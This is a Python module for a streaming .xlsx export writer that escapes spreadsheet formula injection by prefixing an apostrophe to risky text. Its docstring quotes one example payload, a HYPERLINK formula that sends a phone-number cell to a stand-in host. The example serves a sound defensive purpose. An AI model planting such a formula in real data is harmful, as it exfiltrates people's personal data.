"""A streaming .xlsx writer for big exports: each row goes into the zip as it comes, as plain SpreadsheetML.

Written here rather than taken from a library for one figure: ``appeals.export`` (100,000 appeals, 2.1 million
cells; goal under 30 s). openpyxl's write-only mode took 20 s for the cells alone, XlsxWriter's constant-memory
mode 19 s (its per-cell bookkeeping), which left no room for the database; this writer takes about 3 s. It knows
four kinds of value — text, number, date-time and empty — and one style for the header and one for times, which
is all an export needs; templates and reports with layout keep using openpyxl.

Texts are written as inline strings: never a formula, never a link. A text a spreadsheet would take for a formula
when it is typed, pasted or saved as CSV — starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — is
written with a leading apostrophe, as a spreadsheet writes typed text (a resident's note ``=HYPERLINK("http://x/?"&L2)``
would otherwise send the phone in column L away once someone edits the cell); ``core.tables`` takes the apostrophe
off when such a file comes back. Characters XML 1.0 cannot carry are dropped.
"""
from __future__ import annotations

import re
import zipfile
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import IO
from xml.sax.saxutils import escape, quoteattr

_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_EPOCH = datetime(1899, 12, 30)
HEADER_STYLE, TIME_STYLE, DATE_STYLE = 1, 2, 3

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    '{sheets}</Types>')
_SHEET_TYPE = ('<Override PartName="/xl/worksheets/sheet{n}.xml" '
               'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>')
_STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<numFmts count="2"><numFmt numFmtId="164" formatCode="yyyy-mm-dd hh:mm"/>'
    '<numFmt numFmtId="165" formatCode="yyyy-mm-dd"/></numFmts>'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="4"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    '</styleSheet>')
_SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               '<sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" '
               'state="frozen"/></sheetView></sheetViews><sheetData>')


def _column(n: int) -> str:
    name = ""
    n += 1
    while n:
        n, rest = divmod(n - 1, 26)
        name = chr(65 + rest) + name
    return name


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: str) -> str:
    """``value`` as text no spreadsheet runs (OWASP's CSV injection rule)."""
    return "'" + value if value.startswith(FORMULA_START) else value


def _text(value: str) -> str:
    value = neutral(value)
    if not value.isprintable():
        value = _NOT_XML.sub("", value)
    return escape(value)


def _row(number: int, values: Sequence, columns: list[str], style: int = 0) -> str:
    cells = []
    styled = f' s="{style}"' if style else ""
    for column, value in zip(columns, values, strict=False):
        if value is None or value == "":
            continue
        ref = f"{column}{number}"
        if isinstance(value, str):
            cells.append(f'<c r="{ref}"{styled} t="inlineStr"><is><t xml:space="preserve">{_text(value)}</t></is></c>')
        elif isinstance(value, bool):
            cells.append(f'<c r="{ref}" t="b"><v>{int(value)}</v></c>')
        elif isinstance(value, int | float):
            cells.append(f'<c r="{ref}"><v>{value!r}</v></c>')
        elif isinstance(value, datetime):
            days = (value.replace(tzinfo=None) - _EPOCH).total_seconds() / 86400
            cells.append(f'<c r="{ref}" s="{TIME_STYLE}"><v>{days:.10f}</v></c>')
        elif isinstance(value, date):
            cells.append(f'<c r="{ref}" s="{DATE_STYLE}"><v>{(value - _EPOCH.date()).days}</v></c>')
        else:
            cells.append(f'<c r="{ref}"{styled} t="inlineStr"><is><t xml:space="preserve">{_text(str(value))}</t></is></c>')
    return f'<row r="{number}">{"".join(cells)}</row>'


def _widths(widths: Sequence[float] | None) -> str:
    if not widths:
        return ""
    return "<cols>" + "".join(f'<col min="{i}" max="{i}" width="{w}" customWidth="1"/>'
                              for i, w in enumerate(widths, start=1)) + "</cols>"


def write_xlsx(out: IO[bytes], sheets: Iterable[tuple]) -> None:
    """Write sheets — (title, header, rows), or (title, header, rows, column widths) — to the binary file ``out``,
    row by row. The header row is bold and stays in view when scrolling."""
    titles = []
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=5) as book:
        for n, (title, header, rows, *widths) in enumerate(sheets, start=1):
            titles.append(title)
            columns = [_column(i) for i in range(max(len(header), 1))]
            with book.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as sheet:
                head = _SHEET_HEAD.replace("<sheetData>", _widths(widths[0] if widths else None) + "<sheetData>")
                buffer = [head, _row(1, [str(h) for h in header], columns, HEADER_STYLE)]
                for number, row in enumerate(rows, start=2):
                    if len(row) > len(columns):
                        columns += [_column(i) for i in range(len(columns), len(row))]
                    buffer.append(_row(number, row, columns))
                    if len(buffer) >= 500:
                        sheet.write("".join(buffer).encode())
                        buffer.clear()
                buffer.append("</sheetData></worksheet>")
                sheet.write("".join(buffer).encode())
        sheet_types = "".join(_SHEET_TYPE.format(n=n) for n in range(1, len(titles) + 1))
        book.writestr("[Content_Types].xml", _CONTENT_TYPES.format(sheets=sheet_types))
        book.writestr("_rels/.rels", _ROOT_RELS)
        book.writestr("xl/styles.xml", _STYLES)
        book.writestr("xl/workbook.xml", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            + "".join(f'<sheet name={quoteattr(_NOT_XML.sub("", str(t)))} sheetId="{n}" r:id="rId{n}"/>'
                      for n, t in enumerate(titles, start=1))
            + "</sheets></workbook>"))
        book.writestr("xl/_rels/workbook.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                      f'relationships/worksheet" Target="worksheets/sheet{n}.xml"/>'
                      for n in range(1, len(titles) + 1))
            + f'<Relationship Id="rId{len(titles) + 1}" Type="http://schemas.openxmlformats.org/officeDocument/'
              '2006/relationships/styles" Target="styles.xml"/></Relationships>'))
